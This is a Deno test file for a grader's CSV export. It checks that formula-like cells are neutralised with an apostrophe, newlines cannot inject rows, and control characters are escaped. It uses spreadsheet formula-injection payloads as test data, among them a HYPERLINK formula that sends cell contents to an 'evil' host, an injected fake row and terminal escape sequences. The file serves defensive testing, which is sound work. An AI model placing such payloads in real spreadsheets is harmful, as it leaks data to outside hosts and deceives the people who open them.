import { parse } from "csv-parse/sync";
import * as fc from "fast-check";
import assert from "node:assert/strict";
import { withoutFormulas } from "../../../grader/reports/csv.ts";
import { resultsCsv } from "../../../grader/reports/results_csv.ts";
import { visible } from "../../../terminal/text.ts";
import { anyRecords } from "../../support/grade/any_record.ts";
import { aBatch, aRecord } from "../../support/grade/batch.ts";
import { rendered } from "../../support/rendered.ts";

const FORMULA = /^[=+\-@\t\r]|[\r\n]["\s]*[=+@-]/;

function read(text: string): Record<string, string>[] {
  return parse(text, { columns: true, record_delimiter: "\r\n" });
}

Deno.test("resultsCsv() has a row a submission; a cell that were a formula gets an apostrophe", async () => {
  const feedback = '=HYPERLINK("http://evil")\n"quoted", and so on';
  const batch = aBatch([aRecord({ name: "a,b", grading: { feedback, fractionalScore: 0.25 } })]);
  const text = await rendered(resultsCsv(), batch);
  const [row] = read(text);
  assert.equal(row!.name, "a,b");
  assert.equal(row!.score, "0.25");
  assert.equal(row!.outcome, "unchecked");
  assert.equal(row!.resumed, "false");
  assert.equal(row!.feedback, `'${feedback}`);
  assert.equal(text.split("\r\n").length, 3);
});

Deno.test("resultsCsv() lets no feedback make rows or formulas of its own", async () => {
  const feedback = 'wrong\nmallory,met,graded,1\n=HYPERLINK("http://evil/"&A1,"click"),x';
  const plain = "wrong\n=1+1\r-2";
  const batch = aBatch([
    aRecord({ name: "a", grading: { feedback } }),
    aRecord({ name: "b", grading: { feedback: plain, problems: ["one", "+2"] } }),
  ]);
  const text = await rendered(resultsCsv(), batch);
  for (const record_delimiter of ["\r\n", ["\r\n", "\n", "\r"]]) {
    const rows: Record<string, string>[] = parse(text, { columns: true, record_delimiter });
    assert.deepEqual(rows.map(({ name, feedback, problems }) => [name, feedback, problems]), [
      ["a", feedback.replace("=", "'="), ""],
      ["b", "wrong\n'=1+1\\r-2", "one\n'+2"],
    ]);
  }
});

Deno.test("resultsCsv() shows control characters, and keeps what ends a line", async () => {
  const text = "\x1b[31mred\x07\x9b\u202e\r\nnext\tcell\0";
  const shown = "\\x1b[31mred\\x07\\x9b\\u{202e}\nnext\tcell\\x00";
  const batch = aBatch([
    aRecord({ name: "a\x1b]0;b\x07", grading: { feedback: text, problems: [text] } }),
  ]);
  const csv = await rendered(resultsCsv(), batch);
  // deno-lint-ignore no-control-regex
  assert.doesNotMatch(csv, /[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e]/);
  assert.deepEqual(read(csv).map(({ name, feedback, problems }) => [name, feedback, problems]), [
    ["a\\x1b]0;b\\x07", shown, shown],
  ]);
});

Deno.test("resultsCsv() keeps every cell within what a spreadsheet holds", async () => {
  for (const line of ["x", "=\n", "=1\n"]) {
    const batch = aBatch([aRecord({ grading: { feedback: line.repeat(50_000) } })]);
    const [row] = read(await rendered(resultsCsv(), batch));
    const { length } = row!.feedback!;
    assert.ok(length > 20_000 && length < 32_767, `${length}`);
    assert.match(row!.feedback!, /characters left out; results\.json has more/);
  }
});

Deno.test("resultsCsv() can be read back whatever it holds, and begins no cell as a formula", async () => {
  await fc.assert(
    fc.asyncProperty(anyRecords, async (records) => {
      const batch = aBatch(records);
      const rows = read(await rendered(resultsCsv(), batch));
      const names = records.map(({ name }) => name).sort();
      const guarded = names.map((name) => withoutFormulas(visible(name.replaceAll("\r\n", "\n"))));
      assert.deepEqual(rows.map(({ name }) => name), guarded);
      for (const cell of rows.flatMap((row) => Object.values(row))) {
        assert.doesNotMatch(cell, FORMULA);
      }
    }),
  );
});
